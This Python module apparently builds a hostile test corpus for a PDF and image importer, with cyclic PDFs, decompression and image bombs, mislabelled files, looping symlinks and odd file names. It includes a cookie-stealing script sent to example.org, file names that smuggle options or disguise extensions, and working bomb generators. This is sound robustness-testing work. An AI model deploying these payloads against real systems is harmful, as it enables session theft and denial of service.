"""A hostile and broken corpus for the importer, the packet printer and the command line.

Not a test module.  It adds to the corpus of tests/corpus.py what the issue asks for and
that one lacks: PDFs cut at several places, and valid ones followed by padding (zeros,
spaces, garbage); encrypted with a user password (AES-128, AES-256 of revision 6, RC4)
and owner-only; cyclic PDFs (a page tree whose /Kids point back to their parent, /Parent
chains that loop, object references that loop, a form that draws itself, /Prev chains of
cross-reference sections that loop, arrays nested a hundred thousand deep); compression
bombs (a content stream, an image, an object stream and a stream packed twice inflating to
gigabytes, a JPEG in a PDF claiming 60000 x 60000 pixels); image
bombs (PNG, TIFF and JPEG headers claiming 60000 x 60000 pixels, a TIFF whose directories
loop, PNG text chunks inflating to gigabytes); wrong extensions (a PDF named .jpg, a JPEG
named .pdf, an ELF program and an HTML page named .pdf); empty and huge (sparse) files;
file names with odd characters; a folder with a FIFO and symbolic links that loop.

``make_hostile_corpus(folder)`` writes every file and returns them by label, each with
what a correct importer does with it (see :data:`Expect`).  The bombs are small on disk
(about 4 MB at most) except the sparse files, which take no disk space.
"""

from __future__ import annotations

import io
import os
import re
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Final, Literal

from PIL import Image

from dossier.core.importer.pipeline import MAX_FILE_BYTES
from tests.corpus import (
    OWNER_PASSWORD,
    USER_PASSWORD,
    _png_chunk,
    encrypt_pdf,
    make_flate_bomb,
    make_pdf,
    make_photo,
    make_png,
    zlib_zeros,
)
from tests.pdf_objects import assemble_pdf, stream_object

# reject: refused with a plain message; ok: imported (by its content, whatever its name);
# encrypted: stored, marked as needing a password, without text; reject_or_ok: either.
Expect = Literal["reject", "ok", "encrypted", "reject_or_ok"]

GIANT: Final = 60_000  # pixels a bomb's header claims, each way
FLATE_BOMB_BYTES: Final = 4 << 30  # what the content-stream bomb inflates to
SPARSE_OVER_LIMIT: Final = 5 << 30  # a sparse file over the import's size limit
SIZE_LIMIT: Final = MAX_FILE_BYTES

FONT: Final = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
RESOURCES: Final = b"/Resources << /Font << /F1 3 0 R >> >>"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One item of the corpus: a file (or a folder to drop) and what must become of it."""

    label: str
    path: Path
    expect: Expect
    why: str


def text_page(words: str) -> bytes:
    """A content stream writing ``words`` (ASCII) in Helvetica, as font /F1."""
    return stream_object(b"BT /F1 12 Tf 56 760 Td (%s) Tj ET" % words.encode("ascii"))


def page(contents: int, parent: int = 2, extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] %s /Contents %d 0 R%s >>" % (
        parent,
        RESOURCES,
        contents,
        b" " + extra if extra else b"",
    )


# --- cyclic and deeply nested PDFs -------------------------------------------------------------


def kids_back_to_parent() -> bytes:
    """The root /Pages lists a /Pages node whose /Kids list the root again (and a real page)."""
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 2 >>",
            FONT,
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 5 0 R] /Count 2 >>",
            page(6, parent=4),
            text_page("A page tree whose Kids point back to their parent."),
        ],
        root=1,
    )


def parent_loop() -> bytes:
    """A page without its own /MediaBox or /Resources, whose /Parent chain loops: a reader
    looking for the inherited values climbs forever."""
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 /Parent 5 0 R >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
            text_page("The parents of this page loop."),
        ],
        root=1,
    )


def reference_loop() -> bytes:
    """Page 1's /Contents and page 2's /Resources are references that lead to each other."""
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 8 0 R"
            b" /Contents 10 0 R >>",
            b"7 0 R",
            b"6 0 R",
            b"9 0 R",
            b"8 0 R",
            text_page("Page two of a file whose references loop."),
        ],
        root=1,
    )


def self_drawing_form() -> bytes:
    """Page 1 draws a form XObject that draws itself (its resources name itself)."""
    form = stream_object(
        b"BT /F1 12 Tf 56 700 Td (A form that draws itself.) Tj ET /Fm1 Do",
        extra=b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
        b" /Resources << /Font << /F1 3 0 R >> /XObject << /Fm1 5 0 R >> >>",
    )
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
            b" /Resources << /Font << /F1 3 0 R >> /XObject << /Fm1 5 0 R >> >>"
            b" /Contents 6 0 R >>",
            form,
            text_page("This page draws a form that draws itself."),
        ],
        root=1,
    )


def _good_objects(words: str) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        FONT,
        page(5),
        text_page(words),
    ]


def _startxref(data: bytes) -> int:
    found = re.findall(rb"startxref\s+(\d+)", data)
    return int(found[-1])


def _update(
    data: bytes, number: int, body: bytes, *, prev: int | None, size: int
) -> tuple[bytes, int]:
    """``data`` with an incremental update replacing object ``number``; the new section's
    trailer points to ``prev`` (None: to the new section itself). Returns the file and where
    the new section starts."""
    out = bytearray(data)
    offset = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (
        size,
        xref if prev is None else prev,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out), xref


def prev_loop_self() -> bytes:
    """An incremental update whose trailer's /Prev points to its own cross-reference section."""
    base = assemble_pdf(_good_objects("A file whose xref sections loop (one)."), root=1)
    body = text_page("Updated page; its xref section points to itself.")
    return _update(base, 5, body, prev=None, size=6)[0]


def prev_loop_pair() -> bytes:
    """Two incremental updates whose trailers' /Prev point to each other."""
    base = assemble_pdf(_good_objects("A file whose xref sections loop (two)."), root=1)
    placeholder = 10**9
    data, first = _update(base, 5, text_page("First update."), prev=placeholder, size=6)
    data, second = _update(data, 5, text_page("Second update."), prev=first, size=6)
    marker = b"/Prev %d >>" % placeholder
    fixed = b"/Prev %d >>" % second
    fixed += b" " * (len(marker) - len(fixed))  # the same length: every offset stays valid
    return data.replace(marker, fixed, 1)


def deep_nesting(depth: int = 100_000) -> bytes:
    """A page whose /MediaBox is an array nested ``depth`` levels deep."""
    nested = b"[" * depth + b"0 0 595 842" + b"]" * depth
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox 6 0 R %s /Contents 5 0 R >>" % RESOURCES,
            text_page("A page whose MediaBox is nested very deep."),
            nested,
        ],
        root=1,
    )


def deep_resources(depth: int = 50_000) -> bytes:
    """A readable page whose /Resources hold an array nested ``depth`` levels deep: pdfium
    never looks there, a reader that copies the page's resources recurses."""
    nested = b"[" * depth + b"1" + b"]" * depth
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
            b" /Resources << /Font << /F1 3 0 R >> /Properties << /Deep 6 0 R >> >>"
            b" /Contents 5 0 R >>",
            text_page("Resources nested very deep."),
            nested,
        ],
        root=1,
    )


def buried_startxref(padding: int = 30_000_000) -> bytes:
    """A valid PDF followed by 30 MB of zeros and another %%EOF: its startxref is far from
    the end (pdfium finds it, pypdf searches backwards a byte at a time)."""
    base = make_pdf_bytes("Its table is buried under 30 MB of zeros.")
    return base + bytes(padding) + b"\n%%EOF\n"


def make_pdf_bytes(words: str) -> bytes:
    return assemble_pdf(_good_objects(words), root=1)


def many_pages(count: int = 12_000) -> bytes:
    """``count`` pages (more than the importer takes) sharing one content stream: 2 MB."""
    kids = b" ".join(b"%d 0 R" % (6 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        FONT,
        text_page("The same words on every page."),
        b"<< /Title (Many pages) >>",
    ]
    objects += [page(4)] * count
    return assemble_pdf(objects, root=1, info=5)


def absurd_page_count() -> bytes:
    """One page, but the page tree claims two billion."""
    objects = _good_objects("One page, two billion claimed.")
    objects[1] = b"<< /Type /Pages /Kids [4 0 R] /Count 2000000000 >>"
    return assemble_pdf(objects, root=1)


# --- bombs --------------------------------------------------------------------------------------


def image_xobject_bomb(side: int = GIANT) -> bytes:
    """Page 1 draws a side x side grey image whose data inflate to side² bytes (3.6 GB)."""
    return _page_drawing(_grey_image(side, b"/FlateDecode", zlib_zeros(side * side)))


def object_stream_bomb(size: int = 1 << 30) -> bytes:
    """The page tree lives in an object stream (PDF 1.5) that inflates to ``size`` bytes:
    the real objects first, then zeros. A cross-reference stream points into it."""
    header_objs = [
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        FONT,
        page(5),
    ]
    numbers = [2, 3, 4]
    table = b""
    body = b""
    for number, obj in zip(numbers, header_objs, strict=True):
        table += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    first = len(table)
    payload = table + body
    compressor = zlib.compressobj(9)
    compressed = compressor.compress(payload) + compressor.flush(zlib.Z_FULL_FLUSH)
    zeros = zlib_zeros(size - len(payload))[2:-4]  # raw deflate blocks of the zeros
    adler = zlib.adler32(bytes(size - len(payload)), zlib.adler32(payload))
    stream = compressed + zeros + adler.to_bytes(4, "big")
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    offsets[5] = len(out)
    out += b"5 0 obj\n" + text_page("Inside an object stream bomb.") + b"\nendobj\n"
    offsets[6] = len(out)
    out += (
        b"6 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (first, len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"]  # object 0: free
    rows.append(b"\x01" + struct.pack(">I", offsets[1]) + b"\x00")
    for index in range(3):  # objects 2, 3, 4 are in stream 6
        rows.append(b"\x02" + struct.pack(">I", 6) + bytes([index]))
    rows.append(b"\x01" + struct.pack(">I", offsets[5]) + b"\x00")
    rows.append(b"\x01" + struct.pack(">I", offsets[6]) + b"\x00")
    rows.append(b"\x01" + struct.pack(">I", xref_at) + b"\x00")
    xref_data = zlib.compress(b"".join(rows))
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Length %d"
        b" /Filter /FlateDecode >>\nstream\n"
        % len(xref_data)
        + xref_data
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def jpeg_in_pdf_bomb(side: int = GIANT) -> bytes:
    """Page 1 draws a JPEG image (DCTDecode) whose header claims side x side pixels."""
    return _page_drawing(_grey_image(side, b"/DCTDecode", jpeg_header_bomb(side)))


def twice_packed_bomb(size: int = 1 << 30) -> bytes:
    """Page 1's content stream is packed twice (/Filter [/FlateDecode /FlateDecode]): one
    layer unpacks to a megabyte, the second to ``size`` zeros."""
    data = zlib.compress(zlib_zeros(size), 9)
    stream = (
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(data)
        + data
        + b"\nendstream"
    )
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            FONT,
            page(5),
            stream,
        ],
        root=1,
    )


def _grey_image(side: int, filter_name: bytes, data: bytes) -> bytes:
    """An image XObject of side x side grey pixels, its data packed with ``filter_name``."""
    return (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length %d /Filter %s >>\nstream\n"
        % (side, side, len(data), filter_name)
        + data
        + b"\nendstream"
    )


def _page_drawing(image: bytes) -> bytes:
    """A one-page PDF whose page draws ``image`` (as /Im1) over the whole page."""
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
            b" /Resources << /Font << /F1 3 0 R >> /XObject << /Im1 6 0 R >> >>"
            b" /Contents 5 0 R >>",
            stream_object(b"q 595 0 0 842 0 0 cm /Im1 Do Q BT /F1 12 Tf 56 760 Td (Bomb.) Tj ET"),
            image,
        ],
        root=1,
    )


def padded_pdf(padding: bytes) -> bytes:
    """A valid one-page PDF followed by ``padding`` after its %%EOF."""
    return make_pdf_bytes("A letter followed by bytes that are not part of it.") + padding


def png_header_bomb(side: int = GIANT) -> bytes:
    """A PNG whose header claims side x side RGB pixels, with one tiny data chunk."""
    png = b"\x89PNG\r\n\x1a\n"
    png += _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    png += _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    png += _png_chunk(b"IEND", b"")
    return png


def png_text_bomb(size: int = 1 << 30) -> bytes:
    """A small valid PNG with a compressed text chunk (zTXt) inflating to ``size`` bytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 30, 30)).save(buffer, "PNG")
    data = buffer.getvalue()
    bomb = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib_zeros(size))
    return data[:33] + bomb + data[33:]  # after the 8-byte signature and the IHDR chunk


def png_just_under_the_limit() -> bytes:
    """A valid 16-bit RGBA PNG of 10,900 x 10,900 pixels (119 Mpx, under the 120 Mpx the
    importer allows): 950 MB once decoded, from about 1 MB."""
    width = height = 10_900
    raw = height * (1 + width * 8)
    png = b"\x89PNG\r\n\x1a\n"
    png += _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0))
    data = zlib_zeros(raw)
    for start in range(0, len(data), 1 << 16):
        png += _png_chunk(b"IDAT", data[start : start + (1 << 16)])
    png += _png_chunk(b"IEND", b"")
    return png


def tiff_header_bomb(side: int = GIANT) -> bytes:
    """A little-endian TIFF whose one directory claims side x side 8-bit grey pixels in a
    single strip of a few bytes."""
    entries = [
        (256, 4, 1, side),  # ImageWidth, LONG
        (257, 4, 1, side),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 8),  # StripOffsets: right after the header
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, side),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd_at = 8 + 16
    out = b"II*\x00" + struct.pack("<I", ifd_at) + bytes(16)
    out += struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack("<I", value) if kind == 4 else struct.pack("<HH", value, 0)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += struct.pack("<I", 0)
    return out


def tiff_directory_loop() -> bytes:
    """A small valid TIFF whose directory's "next directory" offset points to itself."""
    buffer = io.BytesIO()
    Image.new("L", (16, 16), 128).save(buffer, "TIFF")
    data = bytearray(buffer.getvalue())
    ifd = struct.unpack("<I", data[4:8])[0]
    count = struct.unpack("<H", data[ifd : ifd + 2])[0]
    next_at = ifd + 2 + 12 * count
    data[next_at : next_at + 4] = struct.pack("<I", ifd)
    return bytes(data)


def jpeg_header_bomb(side: int = GIANT) -> bytes:
    """A JPEG whose frame header (SOF0) claims side x side pixels, then a few bytes of scan."""
    assert side <= 0xFFFF
    soi = b"\xff\xd8"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    table = bytes(range(1, 65))
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + table
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, side, side, 1) + b"\x01\x11\x00"
    # Huffman tables: one code of length 1 for DC 0 and for AC end-of-block.
    dht_dc = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + b"\x01" + bytes(15) + b"\x00"
    dht_ac = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + b"\x01" + bytes(15) + b"\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    return soi + app0 + dqt + sof + dht_dc + dht_ac + sos + b"\x00" * 64 + b"\xff\xd9"


# --- files that are not what their name says --------------------------------------------------

ELF_HEADER: Final = (
    b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
)

HTML_PAGE: Final = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Your results</title></head>
<body><h1>Patient portal</h1><p>Your lab results are ready.</p>
<script>document.location = "https://example.org/" + document.cookie;</script>
</body></html>
"""


# --- names ----------------------------------------------------------------------------------------

ODD_NAMES: Final[dict[str, str | bytes]] = {
    "newline": "first line\nsecond line.txt",
    "tab": "tab\there.txt",
    "right-to-left override": "invoice-\u202egpj.txt",
    "emoji": "scan 🩺💊 résumé.txt",
    "255 bytes": "a" + "é" * 123 + "long.txt",  # 1 + 246 + 8 bytes: the most a name may have
    "leading dash": "-rf --help.txt",
    "escape sequence": "\x1b[31mred\x1b[0m.txt",
    "not UTF-8": b"caf\xe9 r\xe9sum\xe9.txt",
    "only dots and spaces": " . .txt",
}


def _fit_name(name: str | bytes) -> bytes:
    raw = name if isinstance(name, bytes) else os.fsencode(name)
    if len(raw) > 255:
        suffix = b"long.txt"
        raw = raw[: 255 - len(suffix)]
        while raw:  # do not cut a UTF-8 character in half
            try:
                raw.decode("utf-8")
                break
            except UnicodeDecodeError:
                raw = raw[:-1]
        raw += suffix
    return raw


def make_hostile_corpus(folder: Path) -> dict[str, HostileFile]:
    """Write the corpus into ``folder``; return its items by label."""
    folder.mkdir(parents=True, exist_ok=True)
    items: dict[str, HostileFile] = {}

    def add(label: str, name: str | bytes, expect: Expect, why: str) -> Path:
        path = folder / os.fsdecode(name)
        items[label] = HostileFile(label, path, expect, why)
        return path

    # Truncated PDFs: cut at several places of a valid 6-page PDF.
    whole = make_pdf(folder / "_whole.pdf", pages=6, seed=21).read_bytes()
    (folder / "_whole.pdf").unlink()
    for percent in (10, 50, 90):
        add(f"truncated {percent}%", f"truncated-{percent}.pdf", "reject",
            f"a 6-page PDF cut to {percent}% of its bytes").write_bytes(
            whole[: len(whole) * percent // 100])  # fmt: skip
    add("truncated before %%EOF", "truncated-eof.pdf", "reject_or_ok",
        "a PDF missing only its last line (%%EOF)").write_bytes(whole[:-6])  # fmt: skip
    add("header only", "header-only.pdf", "reject", "nothing but '%PDF-1.7'").write_bytes(
        b"%PDF-1.7\n"
    )
    for label, name, padding in (
        ("20 KB of zeros after %%EOF", "padded-zeros.pdf", bytes(20_000)),
        ("spaces after %%EOF", "padded-spaces.pdf", b" \r\n\t" * 5_000),
        ("garbage after %%EOF", "padded-garbage.pdf", bytes(range(256)) * 40),
    ):
        add(label, name, "ok", "a valid PDF with bytes after its end, as readers accept"
            ).write_bytes(padded_pdf(padding))  # fmt: skip

    # Encrypted PDFs.
    plain = make_pdf(folder / "_plain.pdf", pages=2, seed=22, title="Sealed letter")
    for label, user, algorithm, expect in (
        ("user password (AES)", USER_PASSWORD, "AES-128", "encrypted"),
        ("user password (AES-256)", USER_PASSWORD, "AES-256", "encrypted"),
        ("user password (RC4)", USER_PASSWORD, "RC4-128", "encrypted"),
        ("owner password only (AES)", "", "AES-128", "ok"),
        ("owner password only (AES-256)", "", "AES-256", "ok"),
        ("owner password only (RC4)", "", "RC4-128", "ok"),
    ):
        name = "encrypted-" + re.sub(r"\W+", "-", label).strip("-").lower() + ".pdf"
        encrypt_pdf(
            plain,
            add(label, name, expect, f"{algorithm}, user password {user!r}"),  # type: ignore[arg-type]
            user_password=user,
            owner_password=OWNER_PASSWORD,
            algorithm=algorithm,  # type: ignore[arg-type]
        )
    plain.unlink()

    # Cyclic and nested PDFs: any answer will do, as long as it comes in time.
    for label, name, maker, why in (
        ("kids back to parent", "kids-loop.pdf", kids_back_to_parent,
         "the page tree's /Kids lead back to the root /Pages"),
        ("parent loop", "parent-loop.pdf", parent_loop,
         "a page inheriting its MediaBox through a /Parent chain that loops"),
        ("reference loop", "reference-loop.pdf", reference_loop,
         "/Contents and /Resources are references leading to each other"),
        ("self-drawing form", "form-loop.pdf", self_drawing_form,
         "a form XObject that draws itself"),
        ("xref /Prev loop (self)", "prev-self.pdf", prev_loop_self,
         "an update's trailer /Prev points to its own xref section"),
        ("xref /Prev loop (pair)", "prev-pair.pdf", prev_loop_pair,
         "two updates whose trailers' /Prev point to each other"),
        ("deep nesting", "deep.pdf", deep_nesting, "a MediaBox nested 100,000 arrays deep"),
        ("absurd page count", "count.pdf", absurd_page_count,
         "one page; the page tree claims two billion"),
        ("many pages", "many-pages.pdf", many_pages,
         "12,000 pages sharing one content stream"),
        ("deep nesting in resources", "deep-resources.pdf", deep_resources,
         "a page's resources nested 50,000 arrays deep"),
        ("startxref buried", "buried.pdf", buried_startxref,
         "startxref 30 MB before the end, under zeros"),
    ):  # fmt: skip
        add(label, name, "reject_or_ok", why).write_bytes(maker())

    # Compression bombs: refused when added, as the README says, so never in a packet.
    bomb = add("flate bomb (4 GiB)", "flate-bomb.pdf", "reject",
               "page 2's content stream inflates to 4 GiB of zeros")  # fmt: skip
    make_flate_bomb(bomb, FLATE_BOMB_BYTES)
    add("image bomb in a PDF", "image-bomb.pdf", "reject",
        f"page 1 draws a {GIANT}x{GIANT} image that inflates to 3.6 GB").write_bytes(
        image_xobject_bomb())  # fmt: skip
    add("object stream bomb", "objstm-bomb.pdf", "reject",
        "the page tree is in an object stream that inflates to 1 GiB").write_bytes(
        object_stream_bomb())  # fmt: skip
    add("stream packed twice", "twice-packed.pdf", "reject",
        "a content stream packed twice: 1 MB, then 1 GiB").write_bytes(twice_packed_bomb())  # fmt: skip
    add("JPEG bomb in a PDF", "jpeg-in-pdf.pdf", "reject",
        f"page 1 draws a JPEG claiming {GIANT}x{GIANT} pixels").write_bytes(jpeg_in_pdf_bomb())  # fmt: skip

    # Image bombs.
    add("PNG header bomb", "giant.png", "reject",
        f"a PNG header claiming {GIANT}x{GIANT} RGB pixels").write_bytes(png_header_bomb())  # fmt: skip
    add("TIFF header bomb", "giant.tiff", "reject",
        f"a TIFF claiming {GIANT}x{GIANT} pixels").write_bytes(tiff_header_bomb())  # fmt: skip
    add("JPEG header bomb", "giant.jpg", "reject",
        f"a JPEG frame header claiming {GIANT}x{GIANT} pixels").write_bytes(jpeg_header_bomb())  # fmt: skip
    add("PNG just under the pixel limit", "big-16bit.png", "reject_or_ok",
        "a valid 16-bit RGBA PNG of 119 Mpx: 950 MB decoded").write_bytes(
        png_just_under_the_limit())  # fmt: skip
    add("PNG text chunk bomb", "text-bomb.png", "reject_or_ok",
        "a valid PNG with a zTXt chunk inflating to 1 GiB").write_bytes(png_text_bomb())  # fmt: skip
    add("TIFF directory loop", "ifd-loop.tiff", "reject_or_ok",
        "a TIFF whose next-directory offset points to itself").write_bytes(tiff_directory_loop())  # fmt: skip

    # Wrong extensions: the content decides.
    make_pdf(add("PDF named .jpg", "letter.jpg", "ok", "a valid PDF named .jpg"), pages=1, seed=23)
    photo = make_photo(folder / "_photo.jpg", size=(320, 240), seed=24)  # JPEG by its suffix
    photo.rename(add("JPEG named .pdf", "photo.pdf", "ok", "a valid JPEG named .pdf"))
    add("ELF named .pdf", "program.pdf", "reject", "a Linux program named .pdf").write_bytes(
        ELF_HEADER + bytes(range(256)) * 16
    )
    add("HTML named .pdf", "portal.pdf", "reject", "a web page named .pdf").write_text(HTML_PAGE)

    # Empty and huge.
    add("empty", "empty.pdf", "reject", "zero bytes").write_bytes(b"")
    with add("sparse, over the size limit", "huge.pdf", "reject",
             "a sparse 5 GiB file starting like a PDF").open("wb") as handle:  # fmt: skip
        handle.write(b"%PDF-1.4\n")
        handle.truncate(SPARSE_OVER_LIMIT)
    line = b"Blood pressure 120/80, pulse 64, weight 71 kg; no change since the last visit.\n"
    add("text, 40 MB", "huge.txt", "reject", "40 MB of text (the limit for text is 32 MB)"
        ).write_bytes(line * ((40 << 20) // len(line)))  # fmt: skip
    with add("sparse, at the size limit", "limit.pdf", "reject",
             "a sparse file of exactly the size limit, starting and ending like a PDF"
             ).open("wb") as handle:  # fmt: skip
        end = b"\nstartxref\n500000000\n%%EOF\n"  # leads into the zeros
        handle.write(b"%PDF-1.4\n")
        handle.truncate(SIZE_LIMIT - len(end))
        handle.seek(SIZE_LIMIT - len(end))
        handle.write(end)

    # Odd names: small pictures, each its own (a picture's title comes from its name).
    for seed, (label, name) in enumerate(ODD_NAMES.items(), start=100):
        make_png(add(f"name: {label}", _fit_name(name), "ok", f"a PNG named {name!r}"), seed=seed)
    add("text, one line of a megabyte", "one-line.txt", "ok",
        "a megabyte of text without a line break or a space").write_text("x" * 1_000_000)  # fmt: skip
    return items


def make_hostile_folder(folder: Path) -> tuple[Path, Path]:
    """A folder to drop: a good file, a FIFO, a symbolic link to the folder's parent (a
    loop for a walker that follows links), a link to itself, a dangling link and a link to
    /dev/zero. Returns (the folder, the good file)."""
    folder.mkdir(parents=True)
    good = folder / "good.txt"
    good.write_text("The only ordinary file in this folder.\n")
    inner = folder / "inner"
    inner.mkdir()
    (inner / "up").symlink_to("..", target_is_directory=True)
    (inner / "self").symlink_to("self")
    (inner / "nowhere.pdf").symlink_to("missing.pdf")
    (inner / "zero.pdf").symlink_to("/dev/zero")
    os.mkfifo(inner / "pipe.pdf")
    return folder, good


def make_link_loop(folder: Path) -> Path:
    """Two symbolic links pointing at each other; returns one of them."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "a.pdf").symlink_to("b.pdf")
    (folder / "b.pdf").symlink_to("a.pdf")
    return folder / "a.pdf"
